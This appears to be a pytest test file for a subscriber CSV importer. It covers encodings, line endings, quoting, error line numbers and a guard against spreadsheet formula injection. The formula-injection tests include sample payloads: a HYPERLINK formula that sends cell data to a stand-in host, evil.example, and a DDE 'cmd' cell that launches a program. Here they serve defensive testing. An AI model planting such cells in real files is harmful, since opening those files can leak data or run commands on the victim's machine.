"""Reading import files: encodings, line endings, quoting, line numbers, the spreadsheet guard."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session, sessionmaker

from mailer.topics import Taxonomy
from subscribers.importer import (
    export_csv,
    neutralise,
    restore,
)
from subscribers.models import NewsletterList
from tests.subscribers.importer.support import (
    refused,
    run,
    stored,
    write,
)


class TestFileFormat:
    @pytest.mark.parametrize(
        "text",
        [
            "\ufeffemail,name\r\na@example.net,Ann\r\nb@example.net,Bo\r\n",
            "email,name\ra@example.net,Ann\rb@example.net,Bo\r",
            'email,name\n\na@example.net,"Ann"\n"b@example.net",Bo',
        ],
        ids=["bom-crlf", "cr", "blank-lines-quotes-no-final-newline"],
    )
    def test_bom_line_endings_and_quoting_are_accepted(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
        text: str,
    ) -> None:
        """A UTF-8 BOM, CRLF or CR line endings, blank lines and quoted cells all import."""
        report = run(sessions, newsletter, write(tmp_path, text), taxonomy)
        assert report.created == 2
        assert [(row[0], row[1]) for row in stored(sessions, newsletter)] == [
            ("a@example.net", "Ann"),
            ("b@example.net", "Bo"),
        ]

    def test_a_non_utf8_file_names_the_undecodable_line(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Latin-1 bytes fail the import with the line they are on."""
        path = tmp_path / "latin1.csv"
        path.write_bytes("email,name\na@example.net,Ann\nb@example.net,José\n".encode("latin-1"))
        assert [str(e) for e in refused(sessions, newsletter, path, taxonomy).errors] == [
            "line 3: not UTF-8 (byte 0xe9); save the file as UTF-8"
        ]

    def test_a_quoted_cell_spanning_lines_keeps_later_line_numbers_true(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Lines are the file's own, so a row after a two-line cell is numbered right."""
        path = write(tmp_path, 'email,name\na@example.net,"Ann\nLee"\nbad@,Bo\n')
        assert [error.line for error in refused(sessions, newsletter, path, taxonomy).errors] == [
            2,
            4,
        ]

    def test_broken_quoting_is_reported_with_its_line(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A quote in the middle of a cell is refused as invalid CSV at that line."""
        path = write(tmp_path, 'email,name\na@example.net,Ann\nb@example.net,"Bo"x\n')
        [error] = refused(sessions, newsletter, path, taxonomy).errors
        assert (error.line, error.reason.split(":")[0]) == (3, "not valid CSV")

    def test_a_nul_byte_names_its_line(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A NUL byte, which no database stores as text, fails the file at its line."""
        path = write(tmp_path, "email,name\na@example.net,A\x00n\n")
        assert [str(e) for e in refused(sessions, newsletter, path, taxonomy).errors] == [
            "line 2: contains a NUL byte (is this a CSV file?)"
        ]

    def test_an_unreadable_file_is_an_import_failure(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """A missing file raises ImportFailed at line 1, not an OSError."""
        failed = refused(sessions, newsletter, tmp_path / "missing.csv", taxonomy)
        assert [str(e) for e in failed.errors] == [
            "line 1: cannot read the file: No such file or directory"
        ]


class TestHostileCells:
    def test_formula_cells_are_exported_as_text_and_import_back_unchanged(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
    ) -> None:
        """Cells a spreadsheet would run are exported behind a ' and import back as they were."""
        names = [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "'=already quoted",
            "'plain apostrophe",
            "Ann = Bob",
        ]
        rows = [
            f'reader{n}@example.net,"{name.replace(chr(34), chr(34) * 2)}"'
            for n, name in enumerate(names)
        ]
        rows.append('"""=1+1""@example.org",Formula Address')
        run(
            sessions, newsletter, write(tmp_path, "email,name\n" + "\n".join(rows) + "\n"), taxonomy
        )
        before = stored(sessions, newsletter)
        assert ("=1+1@example.org", "Formula Address") in [(r[0], r[1]) for r in before]
        first = tmp_path / "first.csv"
        with sessions() as session:
            export_csv(session, newsletter, first)
        with first.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "'=1+1@example.org" in cells
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
        # A ' typed before a formula in a file means "text", as in a spreadsheet: it is taken off.
        assert "'=already quoted" in cells and "'plain apostrophe" in cells
        report = run(sessions, newsletter, first, taxonomy)
        assert report.unchanged == len(names) + 1
        assert stored(sessions, newsletter) == before

    @pytest.mark.parametrize("address", ["=1+1@example.org", "+cmd@example.org", "-x@example.org"])
    def test_an_address_a_spreadsheet_would_run_is_refused_unquoted(
        self,
        sessions: sessionmaker[Session],
        newsletter: NewsletterList,
        taxonomy: Taxonomy,
        tmp_path: Path,
        address: str,
    ) -> None:
        """An address cell beginning with a formula character fails its row, naming the fix."""
        failure = refused(sessions, newsletter, write(tmp_path, f"email\n{address}\n"), taxonomy)
        assert [(e.line, e.email) for e in failure.errors] == [(2, address)]
        assert "runs as a formula" in failure.errors[0].reason
        assert stored(sessions, newsletter) == []

    @given(st.text())
    def test_restore_undoes_neutralise(self, cell: str) -> None:
        """Any cell comes back from neutralise and restore unchanged, and never opens a formula."""
        assert restore(neutralise(cell)) == cell
        assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")
